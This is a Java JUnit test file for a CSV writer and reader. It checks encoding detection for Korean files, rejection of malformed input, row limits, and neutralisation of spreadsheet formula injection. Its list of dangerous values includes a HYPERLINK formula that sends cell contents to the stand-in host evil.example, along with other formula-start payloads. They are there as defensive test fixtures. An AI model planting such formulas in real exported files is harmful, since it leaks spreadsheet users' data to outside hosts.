package kr.silheomjang.shared.csv;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.io.StringReader;
import java.nio.charset.Charset;
import java.nio.charset.StandardCharsets;
import java.util.Arrays;
import java.util.List;

import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.Test;

class CsvWriterAndReaderTest {

    static final List<String> DANGEROUS = List.of("=HYPERLINK(\"http://evil.example/?\"&A1,\"클릭\")", "+1+2",
            "-2+3", "@SUM(A1:A2)", "\t=1+1", "\r=1+1", "  =1+1", "'=already quoted", "''=twice", "=", "-");
    static final List<String> HARMLESS = List.of("안녕하세요", "010-1234-5678", "a=b", "'quoted'", "", "1+1",
            "e-mail@x.kr", "'");

    @Test
    void formulaCellsLeaveNeutralisedAndEveryValueComesBackUnchanged() throws Exception {
        CsvWriter writer = CsvWriter.withHeader("번호", "값");
        int n = 0;
        for (String v : concat(DANGEROUS, HARMLESS)) {
            writer.row(++n, v);
        }
        byte[] file = writer.toBytes();

        assertThat(Arrays.copyOf(file, 3)).containsExactly(0xEF, 0xBB, 0xBF);
        // What a spreadsheet program sees: no cell of the value column starts a formula.
        List<CSVRecord> seen = CSVFormat.EXCEL.builder().setHeader().setSkipHeaderRecord(true).get()
                .parse(new StringReader(new String(file, 3, file.length - 3, StandardCharsets.UTF_8)))
                .getRecords();
        assertThat(seen.get(0).get("값")).isEqualTo("'=HYPERLINK(\"http://evil.example/?\"&A1,\"클릭\")");
        for (CSVRecord r : seen) {
            String cell = r.get("값");
            assertThat(cell.isEmpty() || "=+-@\t\r".indexOf(cell.charAt(0)) < 0)
                    .as("cell %s", cell).isTrue();
        }
        assertThat(seen.subList(DANGEROUS.size(), seen.size())).extracting(r -> r.get("값"))
                .containsExactlyElementsOf(HARMLESS);

        // Read back through the shared reader: the prefix is gone again (edges are stripped, as for every cell).
        CsvTable back = CsvReader.read(file, 100);
        assertThat(back.encoding()).isEqualTo(CsvEncoding.UTF8_BOM);
        assertThat(back.headers()).containsExactly("번호", "값");
        List<String> values = back.rows().stream().map(r -> r.get("값")).toList();
        List<String> expected = concat(DANGEROUS, HARMLESS).stream()
                .map(v -> v.strip().isEmpty() ? null : v.strip()).toList();
        assertThat(values).containsExactlyElementsOf(expected);
    }

    @Test
    void numbersAreWrittenAsNumbersEvenWhenNegative() {
        String text = new String(CsvWriter.withHeader("a").row(-5).row(3.5).toBytes(), StandardCharsets.UTF_8);
        assertThat(text).isEqualTo("\uFEFFa\r\n-5\r\n3.5\r\n");
    }

    @Test
    void aFileKoreanExcelSavedInCp949IsReadWithCorrectKoreanAndNamedSo() {
        byte[] cp949 = "이름,메모\n김철수,똠방각하 뷁\n".getBytes(Charset.forName("x-windows-949"));
        byte[] eucKr = "이름,메모\n이영희,안녕\n".getBytes(Charset.forName("EUC-KR"));

        CsvTable t = CsvReader.read(cp949, 10);
        assertThat(t.encoding()).isEqualTo(CsvEncoding.CP949);
        assertThat(t.rows()).singleElement().satisfies(r -> {
            assertThat(r.get("이름")).isEqualTo("김철수");
            assertThat(r.get("메모")).isEqualTo("똠방각하 뷁");
            assertThat(r.line()).isEqualTo(2);
        });
        assertThat(CsvReader.read(eucKr, 10).rows().get(0).get("이름")).isEqualTo("이영희");
        assertThat(CsvReader.read("name\nKim\n".getBytes(StandardCharsets.US_ASCII), 10).encoding())
                .isEqualTo(CsvEncoding.UTF8);
    }

    @Test
    void whatIsNeitherUtf8NorPlausibleKoreanIsRefusedRatherThanGuessed() {
        // Latin-1 does not decode as CP949; Shift_JIS kana decode into rare extended syllables. Both are refused.
        byte[] latin1 = "name,city\nMüller,Zürich\n".getBytes(StandardCharsets.ISO_8859_1);
        byte[] sjis = "名前,メモ\n山田,こんにちは\n".getBytes(Charset.forName("Shift_JIS"));
        for (byte[] file : List.of(latin1, sjis)) {
            assertThatThrownBy(() -> CsvReader.read(file, 10)).isInstanceOfSatisfying(CsvFileException.class,
                    e -> assertThat(e.messageKey()).isEqualTo("csv.error.encoding"));
        }
        byte[] badAfterBom = {(byte) 0xEF, (byte) 0xBB, (byte) 0xBF, 'a', (byte) 0xC0, '\n'};
        assertRefused(badAfterBom, "csv.error.encoding");
        assertRefused(new byte[] {(byte) 0xFF, (byte) 0xFE, 'a', 0}, "csv.error.utf16");
        assertRefused(new byte[] {'P', 'K', 3, 4, 0, 0, 'x'}, "csv.error.notText");
        assertRefused(new byte[0], "csv.error.empty");
        assertRefused("\n\n".getBytes(StandardCharsets.UTF_8), "csv.error.empty");
        assertRefused("a,b\n\"open,1\n".getBytes(StandardCharsets.UTF_8), "csv.error.malformed");
        assertRefused("이름,이름\n1,2\n".getBytes(StandardCharsets.UTF_8), "csv.error.duplicateColumn");
    }

    @Test
    void rowsBeyondTheLimitAreNotKeptButReported() {
        StringBuilder s = new StringBuilder("a\n");
        for (int i = 0; i < 20; i++) {
            s.append(i).append('\n');
        }
        CsvTable t = CsvReader.read(s.toString().getBytes(StandardCharsets.UTF_8), 5);
        assertThat(t.rows()).hasSize(5);
        assertThat(t.moreRows()).isTrue();
    }

    static void assertRefused(byte[] file, String key) {
        assertThatThrownBy(() -> CsvReader.read(file, 10)).isInstanceOfSatisfying(CsvFileException.class,
                e -> assertThat(e.messageKey()).isEqualTo(key));
    }

    static List<String> concat(List<String> a, List<String> b) {
        return java.util.stream.Stream.concat(a.stream(), b.stream()).toList();
    }
}
